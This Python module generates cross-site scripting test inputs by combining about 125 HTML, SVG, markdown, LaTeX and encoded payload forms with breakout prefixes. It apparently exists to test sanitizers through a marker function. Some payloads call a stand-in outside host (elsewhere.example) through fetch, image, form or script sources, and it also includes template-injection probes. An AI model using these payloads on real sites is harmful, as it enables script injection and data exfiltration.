"""Texts that would run as a script on a page that did not take them for text, made by combining.

What each would call is `ran`, with a mark that says which of them it is and in which field it stands.
"""

from __future__ import annotations

import base64
from urllib.parse import quote

FOREIGN = "elsewhere.example"  # a host that no page may ask for anything
CALLS = (
    "ran('{mark}')",
    "ran(`{mark}`)",
    "window['ra'+'n'](/{mark}/.source)",
    "top.ran?.('{mark}')",
    "[].map.constructor('ran(\"{mark}\")')()",
    "alert('{mark}')",
    f"fetch('//{FOREIGN}/{{mark}}')",
    f"location='//{FOREIGN}/{{mark}}'",
    f"new Image().src='//{FOREIGN}/{{mark}}'",
    "setTimeout('ran(\\'{mark}\\')')",
)
OUT = (  # of what a page may have the text in
    *("", '">', "'>", "</title>", "</textarea>", "</option></select>", "-->", "]]>", "</script>", "</style>"),
    *("</pre>", "</a></p>", '\\">', "`>", "</noscript>", "</template>", "</svg>", "<!--><", "*/", "</main></body>"),
)
TAGS = (
    "<script>{call}</script>",
    "<script src=//" + FOREIGN + "/{mark}.js></script>",
    "<ScRiPt/x>{call}</sCrIpT >",
    "<script type=module>{call}</script>",
    "<script>{call}//",
    "<<script>{call}//<</script>",
    "<scr<script>ipt>{call}</scr</script>ipt>",
    "<img src=x onerror={coded}>",
    '<img src="x" onerror="{coded}"',
    "<img/src=`x`/onerror={coded}>",
    "<img\tsrc=x\tonerror={coded}>",
    "<img {long} src=x onerror={coded}>",
    "<image href=x onerror={coded}>",
    "<svg onload={coded}>",
    "<svg/onload={coded}//",
    "<svg><script>{coded}</script></svg>",
    "<svg><script href=data:,{quoted} /></svg>",
    "<svg><animate onbegin={coded} attributeName=x dur=1s></svg>",
    "<svg><a><set attributeName=href to=javascript:{coded} /><text y=20>{mark}</text></a></svg>",
    "<svg><foreignObject><img src=x onerror={coded}></foreignObject></svg>",
    '<svg><use href="data:image/svg+xml;base64,{svg}#x"/></svg>',
    "<math><mtext><img src=x onerror={coded}></mtext></math>",
    "<math href=javascript:{coded}>{mark}</math>",
    "<body onload={coded}>",
    "<body onpageshow={coded}>",
    "<input autofocus onfocus={coded}>",
    "<select autofocus onfocus={coded}>",
    "<textarea autofocus onfocus={coded}>",
    "<xy tabindex=1 autofocus onfocus={coded}>",
    "<xy style=animation:spin onanimationstart={coded}>",
    "<xy oncontentvisibilityautostatechange={coded} style=display:block;content-visibility:auto>",
    "<details open ontoggle={coded}>",
    "<video><source onerror={coded}></video>",
    "<audio src=x onerror={coded}>",
    "<video src=//" + FOREIGN + "/{mark} autoplay>",
    "<marquee onstart={coded}>",
    "<iframe src=javascript:{coded}></iframe>",
    '<iframe srcdoc="&lt;script>parent.{coded}&lt;/script>"></iframe>',
    "<iframe src=data:text/html;base64,{page}></iframe>",
    "<iframe onload={coded}>",
    "<object data=javascript:{coded}></object>",
    "<object data=data:text/html;base64,{page}></object>",
    "<embed src=//" + FOREIGN + "/{mark}>",
    "<embed src=javascript:{coded}>",
    "<base href=//" + FOREIGN + "/{mark}/>",
    "<meta http-equiv=refresh content=0;url=//" + FOREIGN + "/{mark}>",
    "<meta http-equiv=refresh content='0;url=javascript:{coded}'>",
    "<form action=javascript:{coded}><button autofocus accesskey=x>{mark}</button>",
    "<form action=//" + FOREIGN + "/{mark}><input type=submit>",
    "<button form=sheet formaction=//" + FOREIGN + "/{mark}>",
    "<link rel=stylesheet href=//" + FOREIGN + "/{mark}.css>",
    "<link rel=prefetch href=//" + FOREIGN + "/{mark}>",
    "<style>@import'//" + FOREIGN + "/{mark}.css';</style>",
    "<style>*{{background:url(//" + FOREIGN + "/{mark})}}</style>",
    '<p style="background:url(//' + FOREIGN + '/{mark})">',
    "<a href=javascript:{coded}>{mark}</a>",
    "<a href='java&#9;script:{coded}'>{mark}</a>",
    "<a href=data:text/html;base64,{page}>{mark}</a>",
    # what a second reading makes of a first
    '<noscript><p title="</noscript><img src=x onerror={coded}>">',
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={coded}>'>",
    "<svg></p><style><a id='</style><img src=x onerror={coded}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={coded}>",
    "<template><script>{call}</script></template>",
    "<template shadowrootmode=open><img src=x onerror={coded}></template>",
    "<![CDATA[<img src=x onerror={coded}>]]>",
    "<!--<img src='--><img src=x onerror={coded}>'>",
    "<!-- --!><img src=x onerror={coded}>",
    "<?xml version='1'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{call}</x:script>",
    "<xmp><img src=x onerror={coded}></xmp><plaintext>",
    # names that a script of the page looks for
    "<form id=sheet data-sheet><input name=elements><input name=action>{mark}",
    "<a id=main href=//" + FOREIGN + "/{mark}></a><a id=main name=x>",
    "<img name=querySelector id=found>{mark}",
    "<form data-answer action=//" + FOREIGN + "/{mark}><input id=typed name=ticket>",
    "<a data-next href=//" + FOREIGN + "/{mark}>{mark}</a>",
    "<iframe name=location srcdoc='{mark}'>",
)
BARE = (  # without a tag of their own
    '" onfocus={coded} autofocus x="',
    "' onmouseover={coded} style=position:fixed;inset:0 x='",
    '" style="background:url(//' + FOREIGN + '/{mark})" x="',
    "x onpointerrawupdate={coded} autofocus",
    "javascript:{call}//{mark}",
    "JaVaScRiPt&colon;{coded}",
    "data:text/html;base64,{page}#{mark}",
    "vbscript:{call}",
    "//" + FOREIGN + "/{mark}",
    "https://" + FOREIGN + '/{mark}"onclick="{coded}',
    "[{mark}](javascript:{quoted})",
    "[{mark}](java&#x73;cript:{quoted})",
    "[{mark}](<javascript:{call}>)",
    "[{mark}](data:text/html;base64,{page})",
    "![{mark}](//" + FOREIGN + "/{mark}.png)",
    '[{mark}](https://' + FOREIGN + ' "x\\" onclick={coded} y=\\"")',
    "<javascript:{quoted}>",
    "[{mark}] [{mark}]: javascript:{quoted}",
    "`<img src=x onerror={coded}>`",
    "```{mark}\" onclick={coded} <svg onload={coded}>```",
    "{{{{7*7}}}}{mark}",
    "{{% for x in [7] %}}{{{{x*7}}}}{mark}{{% endfor %}}",
    "{{{{''.__class__.__mro__}}}} {{{{config}}}} {mark}",
    "${{7*7}}{mark}",
    "#{{7*7}}{mark}",
    "<%= 7*7 %>{mark}",
    "*{{7*7}}{mark}",
    "\\text{{<img src=x onerror={coded}>}}",
    "$$\\href{{javascript:{call}}}{{{mark}}}$$",
    "\\(\\unicode{{<svg onload={coded}>}}\\)",
    "&lt;img src=x onerror={call}&gt;",
    "&amp;lt;script&amp;gt;{call}&amp;lt;/script&amp;gt;",
    "&#60;img src=x onerror={call}&#62;",
    "&#x3c;svg onload={call}&#x3e;",
    "%3Cscript%3E{call}%3C/script%3E",
    "\\u003cscript\\u003e{call}\\u003c/script\\u003e",
    "\\x3cimg src=x onerror={call}\\x3e",
    "＜script＞{call}＜/script＞",
    "+ADw-script+AD4-{call}+ADw-/script+AD4-",
    "';{call};//",
    '";{call};//',
    "`${{{call}}}`",
    '{{"x":"</script><script>{call}</script>"}}',
    "\u0627\u0644<img src=x onerror={coded}>\u0639",
    "\u202e<img src=x onerror={coded}>",
    "<scr\u200bipt>{call}</scr\u200bipt>",
    "<img\nsrc=x\nonerror={coded}>",
    "\u212a<\u017fcript>{call}</\u017fcript>",
    "expression({call})",
    "url('javascript:{coded}')",
)  # fmt: skip
LONG = "a" * 400
STRIDE = 37  # no divisor of what is strided over


def payload(number: int, mark: str) -> str:
    """The text of this number; no two numbers below the count of all give the same. It always holds its mark."""
    form, call, out = recipe(number)
    filled = form.format(**_parts(CALLS[call].format(mark=mark), mark))
    text = f"{OUT[out]}{filled}"
    return text if mark in text else f"{text} {mark}"


def recipe(number: int) -> tuple[str, int, int]:
    """Which form, which call, and out of what: every form comes once before any comes again in another dress."""
    forms = [form for pair in _woven() for form in pair]
    turn, place = divmod(number, len(forms))
    form = forms[place]
    return form, (place + 3 * turn) % len(CALLS), (place + 7 * turn) % len(OUT) if form in TAGS else 0


def _woven() -> list[tuple[str, ...]]:
    """Tags and what has none in turn, so that a few of them are of every kind."""
    rows = max(len(TAGS), len(BARE))
    return [tuple(kind[row] for kind in (TAGS, BARE) if row < len(kind)) for row in range(rows)]


def _parts(call: str, mark: str) -> dict[str, str]:
    """The call as each place can take it: in an attribute without quotes no blank, quote or bracket ends it."""
    return {
        "call": call,
        "mark": mark,
        "long": LONG,
        "coded": "".join(f"&#{ord(sign)};" if sign in " \"'`<>=" else sign for sign in call),
        "quoted": quote(call, safe="/:"),
        "page": _in_base64(f"<script>parent.{call}</script>"),
        "svg": _in_base64(f'<svg xmlns="http://www.w3.org/2000/svg" id="x" onload="{call}"/>'),
    }


def _in_base64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def numbers(most: int) -> list[int]:
    """So many numbers with a text of their own, of every kind also where they are few."""
    texts: dict[str, int] = {}
    for number in range(2 * len(TAGS + BARE)):
        texts.setdefault(payload(number, "x"), number)
    found = list(texts.values())
    if most > len(found):
        raise ValueError(f"At most {len(found)} payloads can be made.")
    return [found[step * STRIDE % len(found)] for step in range(most)]
